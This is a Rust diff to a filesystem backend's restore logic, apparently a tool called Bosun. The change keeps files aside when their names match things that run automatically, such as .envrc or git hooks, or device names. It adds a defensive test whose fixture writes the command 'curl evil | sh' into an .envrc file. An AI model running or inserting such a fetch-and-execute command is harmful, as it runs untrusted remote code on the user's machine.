@@ -14,8 +14,9 @@ use rustix::io::Errno;
 use uuid::Uuid;
 
 use super::aside::{Kept, give_back, keep_beside};
-use crate::ContentHash;
+use crate::protected::runs_later;
 use crate::root::{READ, file_type, identity};
+use crate::{ContentHash, is_device_name};
 
 /// Another Bosun may be at work in the same folder; none needs this long between a name and its change.
 const YOUNG: Duration = Duration::from_secs(10);
@@ -126,8 +127,10 @@ pub(super) fn remove(folder: &OwnedFd) -> Left {
 
 /// Gives what may be somebody's the name it was `called`, where that is whole and free; else the name it has beside that.
 fn restored_as(folder: &OwnedFd, called: &str, waiting: &str) -> Option<String> {
-    // No more than a part of one character is missing from a name that did not fit.
-    if waiting.len() + char::MAX.len_utf8() > LONGEST_NAME {
+    // No more than a part of one character is missing from a name that did not fit. And whoever made it may have made it to
+    // be called like what runs later, about which nobody was asked.
+    let is_armed = runs_later(std::iter::once(called)) || is_device_name(called);
+    if is_armed || waiting.len() + char::MAX.len_utf8() > LONGEST_NAME {
         return Some(keep_beside(folder.as_fd(), called, waiting));
     }
     match give_back(folder.as_fd(), called, waiting) {
@@ -317,6 +320,19 @@ mod tests {
             kept[3].starts_with("saved.txt.bosun-") && kept[1].starts_with("nnn") && kept[1].contains(".bosun-"),
             "{kept:?}"
         );
+    }
+
+    /// Anybody can make a file that looks like what was taken aside, and nobody was asked about what it would be called.
+    #[tokio::test]
+    async fn nothing_is_called_again_like_what_runs_later() {
+        let top = tempfile::tempdir().unwrap();
+        let at = |name: &str| top.path().join(name);
+        fs::write(at(&old_aside(".envrc", &[])), "curl evil | sh").unwrap();
+        fs::create_dir_all(at(&old_aside(".git", &[])).join("hooks")).unwrap();
+        let backend = FilesystemBackend::open(top.path(), FilesystemOptions::default()).unwrap();
+        backend.tidy(&VirtualPath::parse("/a.txt").unwrap()).await;
+        let kept = names(top.path());
+        assert!(kept[0].starts_with(".envrc.bosun-") && kept[1].starts_with(".git.bosun-"), "{kept:?}");
     }
 
     /// Names that are long, and text that only looks like ours.
